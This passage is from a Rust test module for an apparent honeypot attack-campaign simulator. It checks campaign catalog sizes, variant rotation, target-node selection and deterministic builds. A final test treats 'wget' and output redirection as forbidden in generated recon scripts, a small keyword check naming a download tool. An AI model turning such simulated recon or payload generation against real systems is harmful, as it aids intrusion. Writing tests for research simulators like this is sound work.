            assert_eq!(sum, s.total_sessions, "{name}");
            assert_eq!(s.sessions_on(*s.active_days.first().unwrap() + 100_000), 0);
        }
    }

    #[test]
    fn tail_is_long_and_mostly_single_honeypot() {
        let c = catalog();
        let tail: Vec<&CampaignSpec> = c
            .specs()
            .iter()
            .filter(|s| s.name.starts_with("tail-"))
            .collect();
        assert!(tail.len() > 1000, "tail size {}", tail.len());
        let single = tail
            .iter()
            .filter(|s| matches!(s.targets, TargetSet::HashWeightedSubset { size: 1, .. }))
            .count();
        assert!(
            single as f64 / tail.len() as f64 > 0.6,
            "single-honeypot fraction {}",
            single as f64 / tail.len() as f64
        );
        // Most tail campaigns live a single day.
        let one_day = tail.iter().filter(|s| s.active_days.len() == 1).count();
        assert!(one_day as f64 / tail.len() as f64 > 0.5);
    }

    #[test]
    fn variant_on_advances_per_block() {
        let c = catalog();
        let fam = c
            .specs()
            .iter()
            .find(|s| s.name.starts_with("uri-family") && s.n_variants > 1)
            .unwrap();
        // First active day is block 0.
        assert_eq!(fam.variant_on(fam.active_days[0]), 0);
        // A later block eventually yields a different variant.
        let variants: std::collections::BTreeSet<u32> =
            fam.active_days.iter().map(|&d| fam.variant_on(d)).collect();
        assert!(variants.len() > 1, "bursty family should rotate variants");
    }

    #[test]
    fn target_nodes_deterministic_and_sized() {
        let c = catalog();
        let h40 = c.by_name("H40").unwrap();
        let nodes = h40.target_nodes(221);
        assert_eq!(nodes.len(), 4);
        assert_eq!(nodes, h40.target_nodes(221));
        assert!(nodes.iter().all(|&n| n < 221));
    }

    #[test]
    fn build_is_deterministic() {
        let a = CampaignCatalog::build(5, &Scale::tiny(), &StudyWindow::paper());
        let b = CampaignCatalog::build(5, &Scale::tiny(), &StudyWindow::paper());
        assert_eq!(a.len(), b.len());
        for (x, y) in a.specs().iter().zip(b.specs()) {
            assert_eq!(x.payload_seed, y.payload_seed);
            assert_eq!(x.active_days, y.active_days);
            assert_eq!(x.total_sessions, y.total_sessions);
        }
    }

    #[test]
    fn recon_scripts_have_no_files_or_uris() {
        for v in 0..16u64 {
            let script = recon_script(v);
            assert!(!script.is_empty());
            for line in &script {
                assert!(!line.contains('>'), "recon must not redirect: {line}");
                assert!(!line.contains("wget"), "recon must not download: {line}");
            }
        }
    }
}
